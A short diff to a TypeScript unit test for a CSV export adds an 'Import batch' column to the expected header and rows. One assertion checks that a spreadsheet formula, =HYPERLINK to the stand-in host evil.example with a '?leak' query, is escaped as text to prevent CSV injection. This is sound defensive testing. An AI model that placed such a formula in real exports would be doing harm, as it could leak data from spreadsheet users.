@@ -51,10 +51,11 @@ describe('a field added in the config', () => {
       reader.onload = () => resolve(new TextDecoder('utf-8', { ignoreBOM: true }).decode(reader.result as ArrayBuffer));
       reader.readAsArrayBuffer(blobs[0]);
     });
-    expect(csv.split('\r\n')[0]).toBe('\ufeffID,Name,Code,Sort order,Image,Description,Manager phone');
-    expect(csv).toContain('1,North,N,1,,,13800001111');
+    // Every field of the record, the import batch (empty: made in the product) before the added one.
+    expect(csv.split('\r\n')[0]).toBe('\ufeffID,Name,Code,Sort order,Image,Description,Import batch,Manager phone');
+    expect(csv).toContain('1,North,N,1,,,,13800001111');
     // A remark a spreadsheet would run as a formula is written as text (CSV injection).
-    expect(csv).toContain(`2,South,S,2,,"'=HYPERLINK(""http://evil.example/?leak"",""Click"")",`);
+    expect(csv).toContain(`2,South,S,2,,"'=HYPERLINK(""http://evil.example/?leak"",""Click"")",,`);
   });
 
   it('is a form input validated with the config rule', async () => {
